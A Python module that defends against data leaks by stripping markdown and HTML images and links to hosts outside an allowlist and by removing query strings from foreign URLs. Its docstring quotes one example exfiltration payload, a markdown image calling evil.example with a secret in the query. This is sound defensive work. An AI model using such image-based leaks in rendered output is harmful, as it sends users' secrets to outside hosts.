"""Stripping of markdown and HTML links and images that could carry data to a foreign host.

A rendered image is fetched without a click, so `![](https://evil.example/?q=<secret>)` leaks;
images and links to hosts outside the allowlist are removed, and bare foreign URLs lose their
query string and fragment.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Iterable
from functools import partial
from urllib.parse import urlsplit

_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'))?"""
_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?" + _TITLE + r"\s*\)")
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?" + _TITLE + r"\s*\)")
_MD_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_LINK = re.compile(r"<a\b[^>]*>", re.IGNORECASE)
_HTML_URL = re.compile(r"""(?:src|href|srcset)\s*=\s*["']?([^"'\s>]+)""", re.IGNORECASE)
_BARE_URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"']+")


class LinkFilter:
    """Removes images and links whose host is not allowlisted (subdomains included)."""

    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
        self.allowed_hosts = tuple(h.lower().lstrip(".") for h in allowed_hosts)

    def allowed(self, url: str) -> bool:
        url = url.strip()
        if not url or url.startswith(("#", "/", "./", "../")):
            return True  # same-origin or in-page
        try:
            parts = urlsplit(url)
        except ValueError:
            return False
        if not parts.scheme:
            return ":" not in url.split("/", 1)[0]  # a relative path, not "javascript:…"
        if parts.scheme.lower() not in ("http", "https"):
            return parts.scheme.lower() == "mailto"
        host = (parts.hostname or "").lower()
        return any(host == h or host.endswith("." + h) for h in self.allowed_hosts)

    @staticmethod
    def may_match(text: str) -> bool:
        """False when `text` holds no link, image or URL this filter could change."""
        return "](" in text or "<" in text or "://" in text or "]:" in text

    def filter(
        self,
        text: str,
        counts: Counter[str] | None = None,
        keep: Callable[[str], bool] | None = None,
    ) -> str:
        """Foreign links out; a URL for which `keep` answers True stays."""
        if not self.may_match(text):
            return text
        if keep is not None:
            return _Kept(self.allowed_hosts, keep).filter(text, counts)
        tally = counts if counts is not None else Counter()
        text = _MD_IMAGE.sub(partial(self._markdown, tally, "image", 2), text)
        text = _MD_LINK.sub(partial(self._markdown, tally, "link", 2), text)
        text = _MD_REFERENCE.sub(partial(self._markdown, tally, "reference", 1), text)
        text = _HTML_IMAGE.sub(partial(self._html, tally, "image"), text)
        text = _HTML_LINK.sub(partial(self._html, tally, "link"), text)
        return _BARE_URL.sub(partial(self._bare, tally), text)

    def _markdown(self, tally: Counter[str], kind: str, group: int, match: re.Match[str]) -> str:
        if self.allowed(match.group(group)):
            return match.group(0)
        if kind == "image":
            tally["image"] += 1
            return "[image removed]"
        tally["link"] += 1
        return "[link removed]" if kind == "reference" else f"{match.group(1)} [link removed]"

    def _html(self, tally: Counter[str], kind: str, match: re.Match[str]) -> str:
        if all(self.allowed(url) for url in _HTML_URL.findall(match.group(0))):
            return match.group(0)
        tally[kind] += 1
        return f"[{kind} removed]"

    def _bare(self, tally: Counter[str], match: re.Match[str]) -> str:
        url = match.group(0)
        cut = min((i for i in (url.find("?"), url.find("#")) if i >= 0), default=-1)
        if cut < 0 or self.allowed(url):
            return url
        tally["query"] += 1
        return url[:cut] + "[query removed]"


class _Kept(LinkFilter):
    """A link filter that also allows the URLs `keep` names."""

    def __init__(self, allowed_hosts: tuple[str, ...], keep: Callable[[str], bool]) -> None:
        self.allowed_hosts = allowed_hosts
        self._keep = keep

    def allowed(self, url: str) -> bool:
        return super().allowed(url) or self._keep(url.strip())
